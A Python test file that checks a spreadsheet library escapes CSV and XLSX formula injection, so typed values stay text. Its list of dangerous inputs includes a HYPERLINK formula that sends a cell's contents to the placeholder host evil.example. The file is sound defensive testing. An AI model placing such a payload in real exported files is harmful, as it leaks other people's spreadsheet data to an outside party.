"""Writing what others open: a value typed by one organization is never a
formula in another's file (OWASP, CSV injection)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from lib.spreadsheet.writing import append_row, csv_text, risky, unescaped_csv_text

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "=1+1",
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",  # full-width, as a Japanese keyboard types it
    "#N/A",  # openpyxl would write an error value
]
HARMLESS = ["Siti Rahayu", "Jl. Merdeka 1, Bekasi", "siti@example.org", "1+1", "a=b", ""]


@pytest.mark.parametrize("value", DANGEROUS[:-1])
def test_it_escapes_what_a_spreadsheet_would_run_in_csv(value: str) -> None:
    assert risky(value)
    assert csv_text(value) == "'" + value
    assert unescaped_csv_text(str(csv_text(value))) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_it_leaves_ordinary_text_as_it_is(value: str) -> None:
    assert not risky(value)
    assert csv_text(value) == value
    assert unescaped_csv_text(value) == value


def test_it_leaves_numbers_and_dates_to_csv() -> None:
    assert csv_text(-5) == -5


@pytest.mark.parametrize("write_only", [True, False])
def test_every_string_written_to_xlsx_reads_back_as_a_string(write_only: bool) -> None:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Data")
    append_row(sheet, [*DANGEROUS, *HARMLESS, 7, None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue()))["Data"].iter_rows())
    assert [cell.data_type for cell in cells[: len(DANGEROUS) + len(HARMLESS) - 1]] == ["s"] * (
        len(DANGEROUS) + len(HARMLESS) - 1
    )
    # (XML reads a carriage return back as a line feed.)
    assert [cell.value for cell in cells[: len(DANGEROUS)]] == [value.replace("\r", "\n") for value in DANGEROUS]
    # Excel's quote prefix: editing the cell later keeps it text.
    assert all(cell.quotePrefix for cell in cells[: len(DANGEROUS) - 1])
    assert not cells[len(DANGEROUS)].quotePrefix
    assert cells[len(DANGEROUS) + len(HARMLESS)].value == 7
